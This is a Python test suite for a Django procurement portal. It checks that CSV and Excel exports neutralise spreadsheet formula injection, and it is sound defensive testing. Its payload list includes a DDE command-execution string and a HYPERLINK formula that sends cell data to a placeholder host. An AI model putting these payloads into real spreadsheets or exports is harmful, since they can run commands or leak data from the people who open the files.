"""No table that leaves the portal computes anything in a spreadsheet program: a formula goes out as the text it is."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from catalogue.entry_files import csv_of
from catalogue.functions import SHEET as FUNCTIONS
from catalogue.importing import read_catalogue
from portal.administration import calendar_file
from portal.files.cells import RISKY, plain_cell, safe_cell
from portal.reports.workbook import Column, render_xlsx
from portal.workdays.calendars import load_year
from portal.workdays.models import Calendar
from portal.workdays.statutory import statutory_holidays
from procurement.plans.book import render as annex
from procurement.plans.workbooks.cells import FORMULA
from procurement.plans.workbooks.writing import Row, render
from tests.factories.catalogue import HEADER, make_version
from tests.factories.implementation import AGENCY, make_implementation
from tests.factories.people import actor
from tests.factories.plans import make_plan_item

FORMULAS = [
    "=1+1", "=cmd|'/c calc'!A0", "+8610", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x/?"&A1,"点击")', "\t=1", "\r=1", "\n=1", "＝1+1", "＋1",
    "－1", "＠SUM(A1)", " =1", "'=1",
]  # fmt: skip
WRITERS = re.compile(r"csv\.(writer|DictWriter)|\bWorkbook\(|render_xlsx\(")


def computed(text: str) -> bool:
    return text.lstrip(" ").startswith(RISKY)


def signed_in(username: str) -> Client:
    client = Client()
    client.force_login(actor(username).user)
    return client


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_goes_out_as_text_and_comes_back_as_it_was(text):
    assert not computed(safe_cell(text))
    assert plain_cell(safe_cell(text)) == text


@given(st.text())
def test_every_text_survives_the_way_out_and_in(text):
    assert not computed(safe_cell(text))
    assert plain_cell(safe_cell(text)) == text or not computed(text)


@pytest.mark.parametrize("text", ["养护", "3 级-甲", "a=b", "", "2027-01-01", "o'clock"])
def test_harmless_text_stays_as_it_is(text):
    assert safe_cell(text) == text
    assert plain_cell(text) == text


@pytest.mark.django_db
def test_the_list_of_services(client):
    names = [name for name in FORMULAS if name.strip() == name and not name.startswith("'")]
    lines = ["A,,1,公共服务", "A10,A,2,社会治理服务"]
    lines += [f'A10{number:02},A10,3,"{name.replace(chr(34), chr(34) * 2)}"' for number, name in enumerate(names, 1)]
    version = make_version(lines=tuple(lines), header=HEADER)
    assert set(names) <= set(version.items.values_list("name", flat=True))
    answer = signed_in("finance_officer").get(reverse("catalogue:export", args=[version.pk]))
    cells = [cell for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))) for cell in row]
    assert not [cell for cell in cells if computed(cell)]
    assert set(names) <= {row.name for row in read_catalogue(answer.content).rows}


@pytest.mark.django_db
def test_the_working_days_of_a_year():
    off = {day: "=1+1" for day in statutory_holidays(2027) if day.weekday() < 5}
    load_year(2027, off, {}, source="通知")
    answer = signed_in("finance_head").get("/administration/calendars/2027.csv")
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert len(rows) > 5
    assert not [cell for row in rows for cell in row if computed(cell)]
    assert {name for _day, _worked, name in calendar_file.read(answer.content, 2027).days} == {"=1+1"}
    assert Calendar.objects.get(year=2027).days.exists()


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_of_a_workbook_is_text(text):
    content = render_xlsx([Column("name", text)], [{"name": text}], title=text, notes=[(text, text)])
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert len(cells) == 4
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells if cell.value.startswith(RISKY))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_of_a_plan_workbook_is_text(text):
    """Also one that is given back to be mended: it came as a formula and goes out as its words (BOOK-02)."""
    rows = [Row(text, {"title": text, "content": [FORMULA, text]}, {})]
    book = load_workbook(io.BytesIO(render(rows, agency=text, year=2027, leaves=[text])))
    cells = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line if cell.value is not None]
    said = [cell for cell in cells if cell.value == text]
    assert len(said) >= 3
    assert {cell.data_type for cell in said} == {"s"}
    assert all(cell.quotePrefix for cell in said if text.startswith(RISKY))


@pytest.mark.django_db
def test_an_implementation_catalogue():
    named = make_implementation(lines=(f"=1+1,A1001,,{AGENCY},公开招标,100.00,是,,,-2+3,",))
    assert named.entries.get().title == "=1+1"
    cells = [cell for row in csv.reader(io.StringIO(csv_of(named).lstrip("\ufeff"))) for cell in row]
    assert "'=1+1" in cells
    assert not [cell for cell in cells if computed(cell)]


@pytest.mark.django_db
@pytest.mark.parametrize("text", ["=1+1", "+8610", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x/?"&A1,"点击")'])
def test_the_annex_of_a_plan(text):
    item = make_plan_item(title=text, content=text)
    book = load_workbook(io.BytesIO(annex(item.plan, [item], as_of="2026-11-20")))
    said = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == text]
    assert len(said) >= 2
    assert {cell.data_type for cell in said} == {"s"}
    assert all(cell.quotePrefix for cell in said)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_list_of_functions(text):
    """Recommended lists are written the same way (S-14, S-15)."""
    rows = [{"number": "1", "name": text, "status": "购买", "basis": text, "note": None}]
    cells = [cell for row in csv.reader(io.StringIO(FUNCTIONS.csv_of(rows).lstrip("\ufeff"))) for cell in row]
    assert not [cell for cell in cells if computed(cell)]
    book = load_workbook(io.BytesIO(FUNCTIONS.xlsx_of(rows, text)))
    assert {cell.data_type for cell in book.worksheets[0][2] if cell.value is not None} == {"s"}


def test_whoever_writes_a_table_is_known_here():
    """A new export must take the same way and be tried above; the measuring of workbooks writes one of its own to compare."""
    apps = [Path(settings.BASE_DIR) / name for name in ("catalogue", "evaluation", "portal", "procurement")]
    found = {str(path.relative_to(settings.BASE_DIR)) for app in apps for path in app.rglob("*.py") if WRITERS.search(path.read_text())}
    assert found == {
        "catalogue/comparison.py", "catalogue/entry_files.py", "catalogue/listing.py", "catalogue/sheets.py",
        "evaluation/assessments/next_year_files.py", "portal/administration/calendar_file.py", "portal/bench_plans.py",
        "portal/bench_work.py", "portal/reports/workbook.py", "portal/workbench/monthly.py", "portal/workbench/portfolio_documents.py",
        "procurement/budgets/books.py", "procurement/budgets/use_report.py", "procurement/plans/book.py",
        "procurement/plans/consolidated.py", "procurement/plans/meeting_papers.py", "procurement/plans/views/adjustments.py",
        "procurement/plans/views/intentions.py", "procurement/plans/views/totals.py", "procurement/plans/workbooks/writing.py",
    }
